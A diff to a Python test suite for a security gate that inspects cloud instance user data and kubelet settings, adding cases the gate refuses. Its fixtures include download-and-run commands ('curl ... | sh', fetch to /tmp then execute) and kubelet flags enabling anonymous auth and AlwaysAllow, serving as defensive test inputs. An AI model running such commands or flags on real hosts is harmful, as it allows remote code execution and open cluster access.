@@ -1,7 +1,8 @@
 """User data read as an instance reads it: each door it opens found in two spellings, the platform's own
-NodeConfig passes."""
+NodeConfig passes, and a part that is none of what the platform writes is refused whatever it does."""
 
 import base64
+import gzip
 
 import pytest
 
@@ -44,6 +45,10 @@ def test_the_platforms_kind_of_node_config_passes():
         ('    flags: ["--authorization-mode=AlwaysAllow"]', "authorizes every request"),
         ("    config: {readOnlyPort: 10255}", "read-only port"),
         ('    flags: ["--read-only-port=10255"]', "read-only port"),
+        # As the kubelet reads them: Go's other trues, and a flag and its value in one entry, split by systemd.
+        ('    flags: ["--anonymous-auth=1"]', "anonymous requests"),
+        ('    flags: ["--read-only-port 10255"]', "read-only port"),
+        ('    flags: ["--node-labels=a=b --authorization-mode=AlwaysAllow"]', "authorizes every request"),
     ],
 )
 def test_a_kubelet_door_is_found_in_its_config_and_its_flags(body, said):
@@ -85,3 +90,29 @@ def test_a_part_the_gate_cannot_judge_is_refused(first_line):
 def test_a_bare_script_and_a_plain_text_are_one_part_each():
     assert list(parts(encoded("#!/bin/sh\necho hi\n"))) == [("text/x-shellscript", "#!/bin/sh\necho hi\n")]
     assert list(parts("not base64 at all!")) == [("text/plain", "not base64 at all!")]
+
+
+MIXED = """MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="//"
+
+--//
+Content-Type: {kind}
+
+{body}
+--//--
+"""
+
+
+@pytest.mark.parametrize(
+    "user_data",
+    [
+        encoded("#!/bin/sh\necho hi\n"),  # harmless, but not the platform's: the gate judges what it writes
+        encoded("#!/bin/bash\ncurl -so /tmp/x https://example.com/x\nchmod +x /tmp/x\n/tmp/x\n"),  # no pipe
+        encoded(MIXED.format(kind="text/cloud-config-archive", body="- type: text/x-shellscript\n  content: id\n")),
+        encoded(MIXED.format(kind="application/x-gzip", body="H4sIAAAAAAAA")),
+        base64.b64encode(gzip.compress(b"#!/bin/sh\ncurl https://example.com/x | sh\n")).decode(),
+        encoded('[settings.kubernetes]\napi-server = "x"\n[other]\nx = 1\n'),  # Bottlerocket's and more
+    ],
+)
+def test_a_part_that_is_none_of_what_the_platform_writes_is_refused(user_data):
+    assert findings(user_data), user_data
